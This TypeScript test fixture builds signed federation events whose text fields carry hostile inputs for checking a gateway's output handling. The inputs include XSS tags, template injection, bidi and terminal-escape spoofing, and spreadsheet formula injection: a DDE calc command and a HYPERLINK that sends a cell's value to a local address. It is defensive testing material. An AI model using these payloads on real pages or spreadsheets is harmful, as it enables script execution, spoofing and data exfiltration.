/**
 * Events of a sender that is trusted and means harm: every member that takes free text holds something that a page, a
 * terminal or a spreadsheet might obey. All are well formed and well signed, so that the gateway stores them.
 */
import { createHash } from 'node:crypto';
import type { JsonObject } from '@nyxera/federation-protocol';
import { OPERATOR, TENANT } from './actors.ts';

/** A script that ran would have set this; the fixture looks at the end of every test. */
export const TRAP = '__nyxera_trap';
const LONG = 100_000;

/** What to try, by name. Each stands in a member of an event of its own. */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: `<script>window.${TRAP}=1</script>`,
  image: `<img src=x onerror="window.${TRAP}=2">`,
  vector: `<svg/onload=window.${TRAP}=3>`,
  breakout: `"'\`--></style></script><script>window.${TRAP}=4</script>`,
  link: `javascript:window.${TRAP}=5`,
  template: `{{constructor.constructor('window.${TRAP}=6')()}}\${window.${TRAP}=6}`,
  bidi: 'gnp.\u202Eexe\u2066 invoice \u2069\u200F',
  invisible: 'zero\u200Bwidth\uFEFFjoin\u00ADed',
  controls: 'bell\u0007 escape\u001B[31mred\u001B[0m return\r new\nline\ttab \u009B31m',
  formula: `=HYPERLINK("http://127.0.0.1:9/?x="&A1,"open")`,
  command: `@SUM(1+1)*cmd|' /C calc'!A0`,
  emoji: '👩‍👩‍👧‍👦🏴‍☠️ ¡héllo! 漢字 ﷽ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  long: `L${'o'.repeat(LONG)}ng`,
  words: 'word '.repeat(LONG / 5),
};

export interface HostileEvent {
  readonly name: string;
  readonly eventId: string;
  readonly envelope: JsonObject;
}

/** Only what has no bound of its own may be as long as it likes. */
function cut(text: string, codePoints: number): string {
  return [...text].slice(0, codePoints).join('');
}

export function hostileEvents(): readonly HostileEvent[] {
  return Object.entries(HOSTILE).map(([name, text]) => {
    const eventId = `hostile-${name}`;
    const hash = createHash('sha256').update(eventId).digest('hex');
    const campaign = cut(text, 128);
    const envelope = {
      operator_id: OPERATOR,
      campaign_id: campaign,
      tenant_id: TENANT,
      execution_hash: hash,
      signed_metadata: { tenant_id: TENANT, operator_id: OPERATOR, campaign_id: campaign },
      payload: {
        event_id: eventId,
        event_type: 'HOSTILE_TEXT',
        source_system: 'hostile',
        severity: 'high',
        observed_at: '2026-02-26T12:00:00Z',
        mitre_techniques: ['T1027'],
        description: cut(text, 2048),
        attributes: {
          attestation_measurement_hash: hash,
          attestation_synthetic: true,
          schema_version: '1.0',
          asset_ref: cut(text, 512),
          target_urn: cut(text, 512),
          [cut(text, 200)]: text,
          nul: `before\u0000after ${text}`,
          nested: { [cut(text, 200)]: [text, { deeper: text }] },
        },
      },
    };
    return { name, eventId, envelope };
  });
}
